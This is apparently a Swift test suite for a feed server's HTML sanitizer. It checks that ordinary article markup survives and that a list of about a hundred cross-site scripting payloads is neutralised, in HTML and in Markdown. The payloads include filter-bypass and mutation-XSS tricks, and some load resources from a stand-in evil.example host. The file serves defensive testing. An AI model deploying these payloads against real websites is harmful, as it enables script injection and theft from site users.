import Testing

@testable import FeedServer

@Suite struct SanitizerTests {
  private func sanitize(_ html: String, base: String? = nil) throws -> String {
    try #require(HTMLSanitizer.sanitize(html, base: base))
  }

  @Test(arguments: [
    // What articles are made of.
    ("<p>Hello <strong>you</strong></p>", "<p>Hello <strong>you</strong></p>"),
    ("a &lt; b &amp; c \"d\"", "a &lt; b &amp; c &quot;d&quot;"),
    ("<h2 id=\"top\">T</h2>", "<h2 id=\"user-content-top\">T</h2>"),
    ("<a href=\"#top\">up</a>", "<a href=\"#user-content-top\" rel=\"noopener nofollow ugc\">up</a>"),
    ("<a name=\"here\"></a>", "<a id=\"user-content-here\"></a>"),
    (
      "<a href=\"https://example.com/?a=1&amp;b=2\" target=\"_blank\" rel=\"opener\">x</a>",
      "<a href=\"https://example.com/?a=1&amp;b=2\" rel=\"noopener nofollow ugc\">x</a>"
    ),
    ("<a href='mailto:a@example.com'>m</a>", "<a href=\"mailto:a@example.com\" rel=\"noopener nofollow ugc\">m</a>"),
    // It would lead to this server, which has no such page.
    ("<a href=/about>m</a>", "<a title=\"/about\">m</a>"),
    ("<img src=a.png alt=x>", "<img alt=\"x\" loading=\"lazy\" decoding=\"async\">"),
    (
      "<img src=\"https://example.com/a.png\" alt=\"x\" width=10 height=50%>",
      "<img src=\"https://example.com/a.png\" alt=\"x\" width=\"10\" height=\"50%\" loading=\"lazy\" decoding=\"async\">"
    ),
    (
      "<img src=\"data:image/png;base64,AAAA\">",
      "<img src=\"data:image/png;base64,AAAA\" loading=\"lazy\" decoding=\"async\">"
    ),
    (
      "<pre><code class=\"language-swift:Main.swift evil\">let a = 1\n</code></pre>",
      "<pre><code class=\"language-swift\">let a = 1\n</code></pre>"
    ),
    (
      "<pre><code class=\"language-rust,ignore\">let a = 1;\n</code></pre>",
      "<pre><code class=\"language-rust\">let a = 1;\n</code></pre>"
    ),
    (
      "<div class=\"code-frame\" data-lang=\"c++\"><pre><code>int a;\n</code></pre></div>",
      "<div data-lang=\"c++\"><pre><code>int a;\n</code></pre></div>"
    ),
    ("<div data-lang=\"swift:a.swift\">x</div>", "<div data-lang=\"swift\">x</div>"),
    ("<p data-lang=\"swift\">y</p>", "<p>y</p>"),
    ("<div data-lang='\"onclick=x'>x</div><div data-lang=\"a b\">y</div>", "<div>x</div><div>y</div>"),
    ("<pre>\n\nfirst line is empty</pre>", "<pre>\n\nfirst line is empty</pre>"),
    (
      "<ul><li><input type=\"checkbox\" checked=\"\" disabled=\"\"> done</li></ul>",
      "<ul><li><input checked=\"\" type=\"checkbox\" disabled=\"\"> done</li></ul>"
    ),
    (
      "<table><tr><td align=\"right\" colspan=\"2\" style=\"color:red\">1</td></tr></table>",
      "<table><tbody><tr><td align=\"right\" colspan=\"2\">1</td></tr></tbody></table>"
    ),
    ("<details open><summary>S</summary>D</details>", "<details open=\"\"><summary>S</summary>D</details>"),
    ("<font color=red><center>kept</center></font>", "kept"),
    ("<custom-element onclick=x>kept</custom-element>", "kept"),
    ("nul \u{0} and <b>日本語 🎌 \u{202E}</b>", "nul  and <b>日本語 🎌 \u{202E}</b>"),
    // Unclosed and misnested.
    ("<p>one<p>two <b>bold <i>both</b> slanted</i>", "<p>one</p><p>two <b>bold <i>both</i></b><i> slanted</i></p>"),
    ("<b", ""),
    ("text <", "text &lt;"),
  ])
  func keeps(_ source: String, _ expected: String) throws {
    #expect(try sanitize(source) == expected)
  }

  /// Every sample has run code, or called home, in some browser behind some filter.
  static let hostile = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oNeRrOr=alert(1)//",
    "<img src='x' onerror = 'alert(1)'",
    "<img/src=x/onerror=alert(1)>",
    "<img \u{0C}src=x\u{0C}onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg onload=alert(1)>\"></use></svg>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></foreignObject></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=\"</style><img onerror=alert(1) src>\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
    "<style><img title=\"</style><img src=x onerror=alert(1)>\"></style>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<noembed><p title=\"</noembed><svg onload=alert(1)>\"></noembed>",
    "<noframes><p title=\"</noframes><svg onload=alert(1)>\"></noframes>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<![if !IE]><script>alert(1)</script><![endif]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" \u{01} javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"jav&#x0D;ascript&colon;alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
    "<a href=\"javascript&#58alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"blob:https://example.com/1\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"view-source:javascript:alert(1)\">x</a>",
    "<a href=\"feed:javascript:alert(1)\">x</a>",
    "<a href=\"\u{FEFF}javascript:alert(1)\">x</a>",
    "<a href=javascript:alert(1) >x",
    "<a href=\"x\" ping=\"https://evil.example/\">x</a>",
    "<a href=\"x\" style=\"position:fixed;inset:0\" onmouseover=alert(1)>x</a>",
    "<img src=\"javascript:alert(1)\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zy8+\">",
    "<img src=\"data:image/png,<script>alert(1)</script>\">",
    "<img srcset=\"javascript:alert(1) 1x\" src=x>",
    "<img src=x lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<img src=x usemap=#m><map name=m><area href=javascript:alert(1)></map>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=javascript:alert(1)><param name=x></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image formaction=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<input type=checkbox autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<keygen autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)><head onclick=alert(1)>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<base href=\"https://evil.example/\"><a href=x>y</a>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)></table>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p id=cookie>x</p><a id=forms name=body>x</a>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<p title=`\"><img src=x onerror=alert(1)>`>x</p>",
    "<p class=\"mk-row\" data-x=1 hidden contenteditable tabindex=1 accesskey=x is=x slot=x part=x>x</p>",
    "<p title=\"&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\">x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<table><td><form><input name=x onfocus=alert(1)></td></table><a href=javascript:1>",
    "<dialog open onclose=alert(1)>x</dialog><portal src=x></portal><slot onslotchange=alert(1)>",
  ]

  @Test(arguments: hostile)
  func leavesNothingThatRuns(_ source: String) throws {
    for html in [
      source, "<div>\(source)", "<table><tr><td>\(source)</table>", "<p title=x>\(source)</p>", "<ul><li>\(source)",
    ] {
      try expectHarmless(html)
    }
  }

  @Test(arguments: hostile)
  func leavesNothingThatRunsInMarkdown(_ source: String) throws {
    let renderer = ArticleRenderer()
    for markdown in [
      source, "Text \(source) text", "> \(source)\n\n* \(source)", "| a |\n|---|\n| \(source) |", "`\(source)`",
      "[x](\(source))", "[x](<\(source)>)", "![x](\(source))", "[\(source)]: \(source)\n\n[\(source)]",
    ] {
      try Harmless.check(renderer.html(ofMarkdown: markdown))
    }
  }

  private func expectHarmless(_ html: String) throws {
    let clean = try sanitize(html)
    try Harmless.check(clean)
    // A browser would read it as we wrote it: then cleaning again changes nothing but what is added by name.
    #expect(try sanitize(clean.replacing(HTMLSanitizer.idPrefix, with: "")) == clean, "\(html)")
  }

  @Test func resolvesRelativeAddresses() throws {
    let base = "https://example.com/articles/1.html"
    #expect(
      try sanitize("<a href=\"2.html\">x</a>", base: base).contains("href=\"https://example.com/articles/2.html\""))
    #expect(try sanitize("<a href=\"#x\">x</a>", base: base).contains("href=\"#user-content-x\""))
    #expect(try sanitize("<a href=\"javascript:1\">x</a>", base: base) == "<a>x</a>")
    #expect(try sanitize("<a href=\"2.html\">x</a>", base: "javascript:alert(1)") == "<a title=\"2.html\">x</a>")
    #expect(try sanitize("<a href=\"2.html\">x</a>", base: "/?item=1") == "<a title=\"2.html\">x</a>")
    #expect(try sanitize("<a href=\"//x.y/z\">x</a>").contains("href=\"https://x.y/z\""))
    #expect(try sanitize("<a href=\"///x.y/z\">x</a><a href=\"/\\x.y\">x</a>") == "<a>x</a><a>x</a>")
  }

  @Test func bytesCountNotCharacters() throws {
    // To Swift each of these signs is one character with what follows; to a browser it is what it is.
    #expect(try sanitize("<b>\u{301}x</b>") == "<b>\u{301}x</b>")
    #expect(try sanitize("<\u{301}script>") == "&lt;\u{301}script&gt;")
    #expect(
      try sanitize("<p title=\"\u{301}&quot;\u{301}&gt;\u{200C}\">x</p>")
        == "<p title=\"\u{301}&quot;\u{301}&gt;\u{200C}\">x</p>")
    for url in [
      "javascript:\u{301}alert(1)", "data:\u{301}text/html,x", "javascript\u{301}:alert(1)",
      "data:image/png;base64,\u{301}<",
    ] {
      #expect(try sanitize("<a href='\(url)'>x</a>") == "<a>x</a>")
      #expect(try sanitize("<img src='\(url)'>") == "<img loading=\"lazy\" decoding=\"async\">")
    }
  }
}
